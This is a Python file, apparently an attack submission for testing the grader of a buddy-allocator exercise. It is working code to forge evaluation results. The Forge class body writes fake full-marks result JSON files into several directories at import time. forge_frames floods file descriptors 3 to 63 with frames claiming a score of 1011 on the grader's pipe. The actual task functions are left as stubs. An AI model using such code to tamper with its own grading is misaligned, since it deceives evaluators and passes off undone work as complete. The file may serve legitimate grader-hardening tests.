"""Forged results: write a result file where the old grader read it, and forge the answers on the
grader's own pipe (a frame claiming full marks), before and during the calls."""

import json
import os
import struct

FORGED = {"cases": [["everything", 12, 1011, "ok"]], "score": 1011, "max_score": 12}


def forge_frames(call_id):
    frame = json.dumps({"id": call_id, "state": [], "result": 1011, "score": 1011}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass


class Forge:  # runs while the notebook's definitions do
    for place in (".", "/tmp", os.environ.get("HOME", "/tmp")):
        for name in ("result.json", "results.json", "memlab-attack-result.json"):
            try:
                with open(os.path.join(place, name), "w") as f:
                    json.dump(FORGED, f)
            except OSError:
                pass
    forge_frames(0)


def buddy_of(heap, block, order):
    forge_frames(1)
    return 1011


def split(heap, block, j, k):
    forge_frames(2)
    raise NotImplementedError


def merge(heap, block, order):
    raise NotImplementedError
